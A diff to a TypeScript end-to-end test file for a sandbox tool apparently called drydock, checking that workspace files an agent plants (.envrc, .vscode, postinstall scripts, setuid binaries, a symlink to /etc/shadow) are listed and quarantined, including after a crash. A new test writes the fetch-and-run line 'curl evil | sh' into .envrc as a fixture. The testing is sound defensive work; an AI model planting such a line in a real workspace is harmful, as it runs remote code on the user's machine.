@@ -7,8 +7,8 @@ import { execFileSync } from 'node:child_process';
 import { existsSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { afterEach, beforeAll, expect, it } from 'vitest';
-import { containersOf, drydock, dumpDiagnostics, makeSandbox, type Sandbox } from './helpers/drydock.js';
-import { describeE2E } from './helpers/engine.js';
+import { background, containersOf, drydock, dumpDiagnostics, makeSandbox, waitForRunningAgent, type Sandbox } from './helpers/drydock.js';
+import { describeE2E, waitFor } from './helpers/engine.js';
 
 const git = (cwd: string, ...args: string[]) => execFileSync('git', ['-c', 'user.email=e2e@drydock.test', '-c', 'user.name=e2e', ...args], { cwd, encoding: 'utf8' });
 
@@ -60,14 +60,30 @@ describeE2E('the workspace guard', () => {
 
     // The end-of-session list, and the quarantine.
     expect(result.stderr).toMatch(/the session created or changed files your host may run/);
-    expect(result.stderr).toMatch(/created {2}\.envrc — quarantined to .*quarantine\/\.envrc/);
-    expect(result.stderr).toMatch(/created {2}\.vscode \(and 1 inside\) — quarantined to .*quarantine\/\.vscode/);
+    expect(result.stderr).toMatch(/created {2}\.envrc — quarantined to .*state\/quarantine\/e2e-workspace-[0-9a-f]{4}\/\.envrc/);
+    expect(result.stderr).toMatch(/created {2}\.vscode \(and 1 inside\) — quarantined to .*state\/quarantine\/e2e-workspace-[0-9a-f]{4}\/\.vscode/);
     expect(result.stderr).toMatch(/changed {2}package\.json — scripts: postinstall/);
     expect(result.stderr).toMatch(/setuid {3}tool \(mode 4755\)/);
     expect(result.stderr).toMatch(/symlink {2}shadow-link → \/etc\/shadow \(leads out of the project\)/);
     expect(existsSync(join(sb.cwd, '.envrc'))).toBe(false);
     expect(existsSync(join(sb.cwd, '.vscode'))).toBe(false);
     expect(await containersOf({ project: sb.project })).toEqual([]);
+  });
+
+  it('after kill -9 of drydock run, gc lists and quarantines what the session planted', async () => {
+    const crashedSb = makeSandbox({ project: 'e2e-workspace-crash' });
+    const crashed = background(crashedSb, ['run', '--project', crashedSb.project, '--', 'bash', '-c', 'echo "curl evil | sh" > .envrc; sleep infinity']);
+    const id = await waitForRunningAgent(crashedSb, { run: crashed });
+    await waitFor('the agent to write .envrc', async () => existsSync(join(crashedSb.cwd, '.envrc')) || undefined, 60_000);
+    crashed.child.kill('SIGKILL');
+    await crashed.exited;
+    const gc = await drydock(crashedSb, ['gc']);
+    expect(gc.code, `${gc.stdout}\n${gc.stderr}`).toBe(0);
+    expect(gc.stderr).toMatch(new RegExp(`session ${id} ended without drydock run`));
+    expect(gc.stderr).toMatch(/created {2}\.envrc — quarantined to/);
+    expect(existsSync(join(crashedSb.cwd, '.envrc'))).toBe(false);
+    expect(readFileSync(join(crashedSb.stateDir, 'quarantine', id, '.envrc'), 'utf8')).toContain('curl evil');
+    expect(await containersOf({ project: crashedSb.project })).toEqual([]);
   });
 
   it('refuses to start when the project allowlist is a symlink into the project', async () => {
